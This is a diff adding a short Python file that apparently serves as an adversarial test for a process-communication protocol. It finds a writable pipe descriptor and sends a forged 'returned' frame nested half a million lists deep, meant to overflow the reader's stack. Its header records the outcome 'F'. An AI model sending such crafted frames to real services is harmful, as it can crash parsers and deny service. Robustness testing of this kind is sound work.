@@ -1,0 +1,22 @@
+# tries: a frame with half a million lists inside one another, so that the reader's stack overflows
+# outcome: F
+# reason: no frame of the protocol
+import os
+
+
+def wire():
+    """The descriptor on which this process answers: the highest pipe that can be written to."""
+    for fd in range(4096, 2, -1):
+        try:
+            if os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:") and os.write(fd, b"") == 0:
+                return fd
+        except OSError:
+            continue
+
+
+def double(number, work):
+    body = b'{"type":"returned","id":2,"value":' + b"[" * 500_000 + b"]" * 500_000 + b"}"
+    data = len(body).to_bytes(4, "big") + body
+    while data:
+        data = data[os.write(wire(), data) :]
+    return 2 * work(number)
